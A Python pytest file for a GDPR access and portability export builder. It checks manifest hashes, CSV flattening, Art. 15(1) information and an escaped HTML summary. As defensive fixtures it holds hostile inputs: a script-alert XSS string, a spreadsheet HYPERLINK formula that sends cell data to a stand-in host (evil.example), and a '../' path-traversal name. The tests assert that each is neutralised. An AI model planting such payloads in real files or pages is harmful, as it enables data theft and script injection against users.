"""The access/portability package: every part is opened and checked, hostile values are
neutralised, and the workflow persists each system's Art. 15(1) information to build it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime
from html.parser import HTMLParser
from uuid import uuid4

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from compliance.gdpr import decisions, service, workflow
from compliance.gdpr.connectors import registry
from compliance.gdpr.connectors.base import (
    Connector,
    ConnectorOutcome,
    ConnectorRequest,
    Dataset,
    LegalHold,
    ProcessingInfo,
    RequestType,
    SubjectRef,
)
from compliance.gdpr.models import DsarOutcome
from compliance.gdpr.package import SystemPart, build_package, flatten, safe_cell
from core.database import unit_of_work
from core.settings import Settings

HOSTILE_HTML = "<script>alert(1)</script>"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
INFO = ProcessingInfo(
    purposes=("order fulfilment",),
    categories=("user.contact.email", "user.contact.address"),
    recipients=("the carrier",),
    retention="10 years (commercial law)",
    source="you, at checkout",
)
HOLD = LegalHold("invoices", "HGB §257: commercial records", "P10Y")


def _records() -> tuple[dict[str, object], ...]:
    return (
        {"order": 1, "note": HOSTILE_HTML, "ship_to": {"city": "Oslo", "zip": "0150"}},
        {"order": 2, "note": HOSTILE_FORMULA, "tags": ["a", "b"], "paid": True},
        {"order": 3, "note": "+1 555", "extra": "-x", "at": "@home"},
    )


def _open(content: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(content))


class _Scripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _build() -> tuple[bytes, str]:
    systems = [
        SystemPart("shop", "done", 3, "exported", [vars_of(HOLD)], INFO),
        SystemPart("newsletter", "not_applicable", 0, "", (), None),
    ]
    built = build_package(
        request_id=uuid4(),
        request_type="access",
        generated_at=datetime(2026, 12, 7, 12, 0, tzinfo=UTC),
        systems=systems,
        datasets=iter([("shop", "orders", list(_records()), ("user.financial",))]),
    )
    with built.content:
        return built.content.read(), built.sha256


def vars_of(hold: LegalHold) -> dict[str, str]:
    return {"what": hold.what, "legal_basis": hold.legal_basis, "retention": hold.retention}


def test_every_part_is_there_and_the_manifest_hashes_each() -> None:
    content, sha = _build()
    assert hashlib.sha256(content).hexdigest() == sha
    with _open(content) as archive:
        names = sorted(archive.namelist())
        assert names == [
            "information.json",
            "manifest.json",
            "shop/orders.csv",
            "shop/orders.json",
            "summary.html",
        ]
        manifest = json.loads(archive.read("manifest.json"))
        assert manifest["type"] == "access" and manifest["generated_at"].startswith("2026-12-07")
        listed = {f["name"]: f["sha256"] for f in manifest["files"]}
        assert set(listed) == set(names) - {"manifest.json"}
        for name, digest in listed.items():
            assert hashlib.sha256(archive.read(name)).hexdigest() == digest
        assert json.loads(archive.read("shop/orders.json")) == list(_records())


def test_csv_is_flattened_in_a_stable_order_and_formula_cells_are_quoted() -> None:
    content, _ = _build()
    with _open(content) as archive:
        text = archive.read("shop/orders.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "order",
        "note",
        "ship_to.city",
        "ship_to.zip",
        "tags",
        "paid",
        "extra",
        "at",
    ]
    assert rows[1][1] == HOSTILE_HTML  # plain text in a CSV: not a formula
    assert rows[2][1] == "'" + HOSTILE_FORMULA
    assert rows[2][4] == '["a", "b"]' and rows[2][5] == "true"
    assert rows[3][1:2] == ["'+1 555"] and rows[3][6:] == ["'-x", "'@home"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The same records give the same bytes.
    assert _build()[0] != b"" and _open(_build()[0]).read("shop/orders.csv") == text.encode(
        "utf-8-sig"
    )


def test_information_has_the_art_15_1_items_per_system_and_the_rights() -> None:
    content, _ = _build()
    with _open(content) as archive:
        info = json.loads(archive.read("information.json"))
    by_system = {s["system"]: s for s in info["systems"]}
    shop = by_system["shop"]
    assert shop["purposes"] == ["order fulfilment"]
    assert shop["recipients"] == ["the carrier"]
    assert shop["retention"] == "10 years (commercial law)"
    assert shop["source"] == "you, at checkout"
    assert {"key": "user.contact.email", "name": "User Contact Email"} in shop["categories"]
    # A dataset's own category is added to the system's list.
    assert [c["key"] for c in shop["categories"]][-1] == "user.financial"
    assert shop["legal_holds"] == [vars_of(HOLD)]
    assert by_system["newsletter"]["purposes"] == []
    assert {"rectification", "erasure", "restriction", "objection", "complaint"} <= set(
        info["rights"]
    )
    assert "supervisory authority" in info["rights"]["complaint"]
    assert info["automated_decision_making"] == "none"


def test_summary_is_self_contained_escaped_and_shows_counts_and_holds() -> None:
    content, _ = _build()
    with _open(content) as archive:
        html = archive.read("summary.html").decode()
    parser = _Scripts()
    parser.feed(html)
    assert "script" not in parser.tags
    assert "http://" not in html.replace('"http://evil', "")  # no external resource
    assert "default-src 'none'" in html
    page = " ".join(parser.text)
    assert "order fulfilment" in page and "the carrier" in page and "User Contact Email" in page
    assert "HGB §257: commercial records" in page  # the legal hold
    assert "supervisory authority" in page
    assert ">3<" in html.replace(" ", "")  # the shop's record count


def test_a_hostile_value_in_a_system_name_or_info_is_escaped_in_the_summary() -> None:
    info = ProcessingInfo((HOSTILE_HTML,), (), (), "x", "y")
    built = build_package(
        request_id=uuid4(),
        request_type="portability",
        generated_at=datetime(2026, 12, 7, tzinfo=UTC),
        systems=[SystemPart("<b>shop</b>", "done", 1, "exported", (), info)],
        datasets=iter([("<b>shop</b>", "../orders", [{"a": 1}], ())]),
    )
    with built.content, _open(built.content.read()) as archive:
        html = archive.read("summary.html").decode()
        names = archive.namelist()
    assert HOSTILE_HTML not in html and "&lt;script&gt;" in html
    assert "<b>shop</b>" not in html
    assert all(".." not in n and not n.startswith("/") for n in names)


def test_helpers() -> None:
    assert flatten({"a": {"b": {"c": 1}}, "d": 2}) == {"a.b.c": 1, "d": 2}
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("a=1") == "a=1" and safe_cell(None) == ""


@dataclass
class Shop:
    name: str = "shop"

    def supports(self, request_type: RequestType) -> bool:
        return True

    def fulfil(self, session: Session, request: ConnectorRequest) -> ConnectorOutcome:
        return ConnectorOutcome(
            self.name,
            "done",
            3,
            "exported",
            (Dataset("orders", _records(), ("user.financial",)),),
            holds=(HOLD,),
            info=INFO,
        )


def test_the_workflow_persists_the_information_and_packages_it(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    connectors: list[Connector] = [Shop()]
    monkeypatch.setattr(registry, "connectors_for", lambda session: connectors)
    with unit_of_work() as db:
        request = service.file_request(
            db,
            type="portability",
            subject=SubjectRef("c9", None),
            channel="api",
            actor="client:shop",
            identity_verified=True,
        )
        decisions.start(db, request.id, actor="user:o")
        request_id = request.id
    assert workflow.process_request(request_id) == "completed"
    with unit_of_work(read_only=True) as db:
        outcome = db.scalars(select(DsarOutcome).where(DsarOutcome.request_id == request_id)).one()
        assert outcome.info is not None
        stored = json.loads(outcome.info)
        assert stored["retention"] == INFO.retention
        assert stored["categories"] == [*INFO.categories, "user.financial"]
        package = service.read_package(db, request_id)
        assert service.get_request(db, request_id).package_sha256 == package.sha256
    assert hashlib.sha256(package.content).hexdigest() == package.sha256
    with _open(package.content) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        assert manifest["request_id"] == str(request_id) and manifest["type"] == "portability"
        info = json.loads(archive.read("information.json"))
        assert info["systems"][0]["source"] == INFO.source
        rows = list(csv.reader(io.StringIO(archive.read("shop/orders.csv").decode("utf-8-sig"))))
        assert rows[2][1] == "'" + HOSTILE_FORMULA
        assert HOSTILE_HTML not in archive.read("summary.html").decode()
